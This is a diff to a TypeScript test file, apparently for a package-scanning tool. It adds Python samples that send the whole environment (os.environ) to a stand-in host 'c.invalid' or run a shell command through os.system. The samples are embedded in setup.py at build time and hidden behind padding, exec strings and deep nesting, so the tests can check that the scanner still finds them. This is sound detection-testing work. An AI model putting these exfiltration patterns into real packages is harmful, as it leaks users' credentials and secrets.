@@ -125,6 +125,78 @@ const PROGRAMS: readonly (readonly [situation: string, make: (count: number) => 
   ],
 ]
 
+const HEAD = 'import json, os, urllib.request\n'
+const posts = (data: string): string =>
+  `urllib.request.urlopen("https://c.invalid", data=json.dumps(dict(${data})).encode())`
+const STARTS = 'os.system(c)'
+
+/** The same in Python. */
+const OF_PYTHON: readonly (readonly [situation: string, make: (count: number) => string])[] = [
+  [
+    'requests',
+    (n) => `${times(n, (at) => `urllib.request.urlopen("https://a${at}.invalid")`)}\n${posts('os.environ')}`,
+  ],
+  [
+    'flows of data',
+    (n) =>
+      `${times(n, (at) => `open("/tmp/a${at}", "wb").write(urllib.request.urlopen("https://a${at}.invalid").read())`)}\n${posts('os.environ')}`,
+  ],
+  ['functions', (n) => `${times(n, (at) => `def f${at}():\n    return ${at}`)}\n${posts('os.environ')}`],
+  [
+    'members of a dictionary',
+    (n) => `o = {${times(n, (at) => `"p${at}": ${at}`, ',')}, "e": os.environ}\n${posts('o["e"]')}`,
+  ],
+  [
+    'members that are set later',
+    (n) => `o = {}\n${times(n, (at) => `o["p${at}"] = ${at}`)}\no["e"] = os.environ\n${posts('o["e"]')}`,
+  ],
+  ['elements of a list', (n) => `o = [${times(n, String, ',')}, os.environ]\n${posts(`o[${n}]`)}`],
+  [
+    'parts that are appended',
+    (n) => `o = []\n${times(n, (at) => `o.append(${at})`)}\no.append(os.environ)\n${posts(`o[${n}]`)}`,
+  ],
+  [
+    'parameters',
+    (n) =>
+      `def f(${times(n + 1, (at) => `a${at}`, ',')}):\n    ${posts(`a${n}`)}\nf(${times(n, String, ',')}, os.environ)`,
+  ],
+  [
+    'texts of a variable',
+    (n) =>
+      `c = "a"\n${times(n, (at) => `if os.getpid() == ${at}: c = "echo ${at}"`)}\nif os.getpid() > 3: c = "${PIPE}"\n${STARTS}`,
+  ],
+  [
+    'texts of a variable, the last of which does no harm',
+    (n) => `c = "${PIPE}"\n${times(n, (at) => `if os.getpid() == ${at}: c = "echo ${at}"`)}\n${STARTS}`,
+  ],
+  [
+    'conditions in a row',
+    (n) =>
+      `if os.getpid() == -1: c = "x"\n${times(n, (at) => `elif os.getpid() == ${at}: c = "echo ${at}"`)}\nelse: c = "${PIPE}"\n${STARTS}`,
+  ],
+  ['parts of a text', (n) => `c = ${times(n, () => '" "', ' + ')} + "${PIPE}"\n${STARTS}`],
+  ['spaces before a command', (n) => `c = "${' '.repeat(n * 60)}${PIPE}"\n${STARTS}`],
+  [
+    'calls within calls',
+    (n) => `${times(n, (at) => `def f${at}(x): return f${at + 1}(x)`)}\ndef f${n}(x): ${posts('x')}\nf0(os.environ)`,
+  ],
+  [
+    'functions in functions',
+    (n) =>
+      `${times(n, (at) => `${' '.repeat(at)}def f${at}():`)}\n${' '.repeat(n)}${posts('os.environ')}\n${times(n, (at) => `${' '.repeat(n - 1 - at)}f${n - 1 - at}()`)}`,
+  ],
+  [
+    'classes that inherit',
+    (n) =>
+      `class C0:\n    def run(self): ${posts('os.environ')}\n${times(n, (at) => `class C${at + 1}(C${at}): pass`)}\nC${n}().run()`,
+  ],
+  [
+    'code before it',
+    (n) => `${times(n, (at) => `exec("a${at} = print(1)")`)}\nexec(${JSON.stringify(posts('os.environ'))})`,
+  ],
+  ['modules', (n) => `${times(n, (at) => `import dep${at}`)}\n${posts('os.environ')}`],
+]
+
 /** Below, at and beyond what the limits are, whichever of them holds. */
 const COUNTS = [5, 9, 17, 33, 65, 401] as const
 
@@ -147,6 +219,22 @@ const onImport = (code: string): Promise<ContentFacts> =>
     'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', main: 'x.js' }),
     'x.js': code,
   })
+
+const atBuild = (code: string): Promise<ContentFacts> =>
+  inspectFiles('sdist-gzip', {
+    'PKG-INFO': 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n',
+    'setup.py': `${HEAD}${code}\n`,
+  })
+
+t.test('the same at the build of a Python package', async (t) => {
+  for (const [situation, make] of OF_PYTHON) {
+    t.ok(isFound(await atBuild(make(1))), `${situation}: it is found where there is one`)
+    for (const count of COUNTS) {
+      const facts = await atBuild(make(count))
+      t.ok(isFound(facts) || isTold(facts), `${situation}: ${count}`)
+    }
+  }
+})
 
 t.test('harm behind more than is followed is found, or it is said that not all was followed', async (t) => {
   for (const [situation, make] of PROGRAMS) {
